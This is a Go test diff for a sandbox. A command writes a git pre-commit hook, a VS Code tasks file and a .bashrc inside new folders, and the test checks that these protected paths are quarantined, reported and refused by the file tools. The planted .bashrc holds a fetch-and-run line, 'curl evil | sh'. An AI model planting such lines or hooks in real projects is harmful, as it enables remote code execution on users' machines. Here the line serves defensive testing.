@@ -1909,3 +1909,32 @@ func TestSandboxProtectedPathsInOutputs(t *testing.T) {
 		}
 	}
 }
+
+// TestSandboxProtectedPathsInNewFolders: protected paths a command makes in folders of its
+// own making, below the top of a grant (where the binds made at the start do not reach), are
+// moved out of the grant as the command ends, into the grant's .keepup quarantine, which the
+// sandbox cannot reach; the command is told, and the file tools refuse the same paths.
+func TestSandboxProtectedPathsInNewFolders(t *testing.T) {
+	t.Parallel()
+	s := newSbx(t)
+	r := s.exec(t, nil, "sh", "-c", `mkdir -p new/.git/hooks && echo evil > new/.git/hooks/pre-commit &&
+mkdir -p x/y/.vscode && echo '{}' > x/y/.vscode/tasks.json && echo 'curl evil | sh' > x/.bashrc && echo done`)
+	if r.code != 0 || r.stdout != "done\n" {
+		t.Fatalf("exit %d: %s%s", r.code, r.stdout, r.stderr)
+	}
+	for _, rel := range []string{"new/.git/hooks", "x/y/.vscode", "x/.bashrc"} {
+		if _, err := os.Lstat(filepath.Join(s.grant, rel)); err == nil {
+			t.Errorf("%s is in the grant after the command", rel)
+		}
+		if !strings.Contains(r.stderr, "moved the protected path /sessions/") || !strings.Contains(r.stderr, "/mnt/work/"+rel+",") {
+			t.Errorf("stderr does not name %s: %s", rel, r.stderr)
+		}
+	}
+	hooks, _ := filepath.Glob(filepath.Join(s.grant, ".keepup", "quarantine", "*", "new", ".git", "hooks", "pre-commit"))
+	if len(hooks) != 1 {
+		t.Errorf("the hook is not in the grant's quarantine: %v", hooks)
+	}
+	s.fileToolsRefuse(t,
+		fileCall{"write_file", obj{"path": "/sessions/${session}/mnt/work/new2/.git/hooks/pre-commit", "content": "x"}},
+		fileCall{"write_file", obj{"path": "/sessions/${session}/mnt/work/x/z/.vscode/tasks.json", "content": "x"}})
+}
